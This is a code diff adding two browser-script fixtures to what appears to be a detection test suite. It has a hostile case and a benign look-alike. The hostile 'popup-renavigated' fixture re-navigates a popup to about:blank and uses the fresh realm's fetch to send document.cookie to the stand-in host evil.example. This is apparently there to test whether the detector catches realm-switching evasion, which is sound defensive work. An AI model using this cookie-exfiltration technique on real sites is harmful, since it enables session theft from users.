@@ -1617,6 +1617,31 @@ export const MAIN_WORLD_SCRIPTS = {
   else addEventListener('load', start);
 })();`,
 
+  /**
+   * A popup the helper opens on a shop page and, once loaded, sends to about:blank: a top-level document, with no
+   * frame element, whose new realm is polled for through the window window.open returned.
+   */
+  'popup-renavigated': `(() => {
+  const w = window.open('/kz/pages/questions', 'helper-popup', 'popup');
+  let old = null;
+  const poll = () => {
+    let fresh = false;
+    try { fresh = w.Function !== old && w.location.href === 'about:blank'; } catch {}
+    if (!fresh) return void setTimeout(poll, 5);
+    w.fetch('https://evil.example/popup-renavigated?c=' + encodeURIComponent(document.cookie));
+    setTimeout(() => w.close(), 1000);
+  };
+  const loaded = () => {
+    let ready = false;
+    try { ready = w.location.pathname === '/kz/pages/questions' && w.document.readyState === 'complete'; } catch {}
+    if (!ready) return void setTimeout(loaded, 20);
+    old = w.Function;
+    w.location.href = 'about:blank';
+    poll();
+  };
+  loaded();
+})();`,
+
   /** A srcdoc given to a sandboxed frame (allow-scripts allow-same-origin) already in the page. */
   'srcdoc-given-sandboxed': `(() => {
   const frame = document.createElement('iframe');
@@ -2161,6 +2186,28 @@ export const BENIGN = {
   blank.contentDocument.body.style.background = 'url("https://media.partner.test/bg.png?v=3")';
   blank.contentDocument.body.textContent = '.';
   window.__widgetDrawn = true;
+})();`,
+  /**
+   * The shop's receipt: its help page opened in a popup, sent to about:blank once loaded, and a receipt written
+   * there whose script asks the shop for stock (a popup's next realm, handed over to its opener since stop 51's review).
+   */
+  'receipt-popup': `(() => {
+  const w = window.open('/kz/pages/questions', 'receipt', 'popup');
+  const written = () => {
+    let ready = false;
+    try { ready = w.location.href === 'about:blank' && w.document.readyState === 'complete'; } catch {}
+    if (!ready) return void setTimeout(written, 20);
+    w.document.write('<h1>Чек</h1><script>fetch("/api/stock/probe").finally(() => { opener.__receipt = true; setTimeout(close, 300); })<\\/script>');
+    w.document.close();
+  };
+  const loaded = () => {
+    let ready = false;
+    try { ready = w.location.pathname === '/kz/pages/questions' && w.document.readyState === 'complete'; } catch {}
+    if (!ready) return void setTimeout(loaded, 20);
+    w.location.href = 'about:blank';
+    written();
+  };
+  loaded();
 })();`,
   /**
    * A widget the shop draws in a srcdoc frame whose own script shows a partner's pages in frames, by `src`,
